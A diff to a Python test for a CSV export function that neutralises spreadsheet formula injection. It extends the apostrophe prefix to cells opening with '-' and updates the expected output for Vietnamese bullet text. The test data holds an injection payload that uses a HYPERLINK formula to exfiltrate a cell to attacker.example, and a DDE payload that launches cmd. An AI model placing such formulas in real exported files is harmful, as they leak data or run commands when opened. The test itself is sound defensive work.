@@ -753,13 +753,14 @@ def test_document_text_that_looks_like_a_formula_is_text_in_the_xlsx_export():
 
 def test_document_text_that_looks_like_a_formula_is_neutralised_in_the_csv_export():
     """In CSV, Excel evaluates a field that opens with '=' or '@': such a field opens with an
-    apostrophe (Excel's mark for text); Vietnamese bullets ('- …') and other text are untouched."""
+    apostrophe (Excel's mark for text); other text is untouched.  (A bullet '- …' is one since
+    stop 19, as '+' and '-' open formulas too: tests/test_server_stop19.py.)"""
     from graph.queries import to_csv
 
     lines = to_csv(_export_rows()).removeprefix("\ufeff").split("\r\n")
     assert lines[1] == '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Bấm vào đây"")"'
     assert lines[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-    assert lines[3:5] == ["- Sở Tài chính chủ trì", "Sở Công Thương"]
+    assert lines[3:5] == ["'- Sở Tài chính chủ trì", "Sở Công Thương"]
 
 
 @pytest.mark.parametrize(
